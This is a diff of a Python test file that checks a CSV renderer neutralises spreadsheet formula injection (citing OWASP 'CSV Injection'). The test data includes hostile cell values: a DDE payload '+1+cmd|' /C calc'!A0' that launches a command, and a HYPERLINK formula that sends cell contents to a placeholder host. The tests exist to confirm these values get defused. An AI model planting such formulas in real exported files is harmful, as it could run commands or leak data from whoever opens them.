@@ -3,6 +3,7 @@ neutralised when a spreadsheet would evaluate it (OWASP, "CSV Injection")."""
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import pytest
@@ -10,8 +11,9 @@ from conftest import DATA
 
 from engine import api
 from engine.cli import main
+from engine.read.msel.cells import FORMULA_STARTS
 from engine.render import msel
-from engine.render.cells import TRIGGERS, safe_cell
+from engine.render.cells import safe_cell, safe_row
 from engine.render.compare_report import compare_csv
 from engine.render.events_csv import render_events_csv
 from engine.render.msel import MselRow, render_msel_csv
@@ -21,14 +23,14 @@ from tests.hostile import hostile_files
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
 FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
-            "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+            "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-12.5"]
+NUMBER = re.compile(r"-?\d+(\.\d+)?(e[-+]?\d+)?")
 
 
 def evaluated(cell: str) -> bool:
-    """Whether a spreadsheet could take ``cell`` for a formula (our own rule, restated: a
-    trigger first, after any spaces, and not a plain number)."""
-    head = cell.lstrip(" \u3000\u00a0")
-    return bool(head) and head[0] in TRIGGERS and safe_cell(cell) != cell
+    """Whether a spreadsheet could take ``cell`` for a formula: it starts with a formula
+    character and is not a plain number (a number accord wrote, such as -3, is a number)."""
+    return bool(cell) and cell[0] in FORMULA_STARTS and not NUMBER.fullmatch(cell)
 
 
 def cells(text: str) -> list[str]:
@@ -42,11 +44,17 @@ def test_a_formula_is_shown_as_text(formula):
     assert safe_cell(formula) == "'" + formula
 
 
-@pytest.mark.parametrize("text", ["", "Entry into force", "-12.5", "+3", "-4e3", ".5", "T+10d", "a=b", "x-1",
-                                  "'quoted already", "collective_defence.completed"])
-def test_ordinary_text_and_plain_numbers_are_left_alone(text):
-    """Text not starting a formula, and plain numbers (a minus sign starts a negative number), are unchanged."""
+@pytest.mark.parametrize("text", ["", "Entry into force", ".5", "T+10d", "a=b", "x-1", "'quoted already",
+                                  "collective_defence.completed"])
+def test_ordinary_text_is_left_alone(text):
+    """Text that does not start a formula is unchanged."""
     assert safe_cell(text) == text
+
+
+def test_numbers_in_a_row_stay_numbers():
+    """In a row, numbers accord computed (a negative difference, a seed) stay numbers a
+    spreadsheet reads as such; the same characters as text are guarded."""
+    assert safe_row([-12.5, 3, None, "-3", True]) == [-12.5, 3, "", "'-3", "True"]
 
 
 def test_the_msel_csv_of_a_hostile_inject_holds_no_live_formula(tmp_path, capsysbinary):
